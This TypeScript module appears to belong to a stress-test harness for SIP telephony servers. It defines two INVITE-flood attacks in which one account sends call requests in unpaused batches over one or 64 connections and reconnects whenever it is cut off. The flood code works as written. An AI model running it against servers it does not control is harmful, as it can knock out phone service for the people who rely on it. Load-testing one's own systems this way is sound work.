import { type Phone, unique } from '../generator/phone.ts';
import { SESSION_DESCRIPTION } from '../generator/sip-text.ts';
import { type Attack, type Battle, drained, goesOn, together } from './attack.ts';
import { attackingFlow, reasonOf } from './attacking-phone.ts';

/** INVITEs that are sent without waiting. */
const AT_ONCE = 20;
/** As many as one extension's phones may have. */
const MOST_FLOWS = 64;

/** The numbers that are called in turn: one that rings and never answers, one whose phone is off, one that does not exist. */
const dialled = ({ accounts }: Battle): readonly string[] => [
  accounts[1]?.user ?? '',
  accounts[2]?.user ?? '',
  '99999',
];

export function inviteText(phone: Phone, number: string, body = SESSION_DESCRIPTION): string {
  const { account, target, via, contact } = phone;
  const uri = `sip:${number}@${target.domain}`;
  return (
    `INVITE ${uri} SIP/2.0\r\nVia: ${via};branch=z9hG4bK${unique()}\r\nMax-Forwards: 69\r\nTo: <${uri}>\r\n` +
    `From: <sip:${account.user}@${target.domain}>;tag=${unique()}\r\nCall-ID: ${unique()}flood\r\nCSeq: 1 INVITE\r\n` +
    `Contact: ${contact}\r\nContent-Type: application/sdp\r\nSupported: outbound\r\n` +
    `Content-Length: ${String(body.length)}\r\n\r\n${body}`
  );
}

/** One account calls without a pause; where its connection is closed, it comes back. */
async function flood(battle: Battle, connections: number): Promise<void> {
  const { accounts, tally } = battle;
  const [caller, callee] = accounts;
  if (caller === undefined || callee === undefined) throw new Error('an attack without accounts');
  const ringing = await attackingFlow(callee, battle);
  const numbers = dialled(battle);
  let turn = 0;
  await together(Array.from({ length: connections }), async () => {
    while (goesOn(battle)) {
      const phone = await attackingFlow(caller, battle);
      while (goesOn(battle) && phone?.connected) {
        for (let count = 0; count < AT_ONCE; count++)
          phone.send(inviteText(phone, numbers[turn++ % numbers.length] ?? ''));
        tally.sent('INVITE', AT_ONCE);
        await drained(phone, battle);
      }
      if (goesOn(battle)) tally.got(reasonOf('closed'));
      phone?.cut();
    }
  });
  ringing?.cut();
}

export const INVITE_FLOODS: readonly Attack[] = [
  {
    name: 'invite-flood',
    alone: true,
    what: 'one account sends INVITEs without a pause, on one connection',
    run: (battle) => flood(battle, 1),
  },
  {
    name: 'invite-flood-wide',
    alone: true,
    what: `one account sends INVITEs without a pause, on ${String(MOST_FLOWS)} connections`,
    run: (battle) => flood(battle, MOST_FLOWS),
  },
];
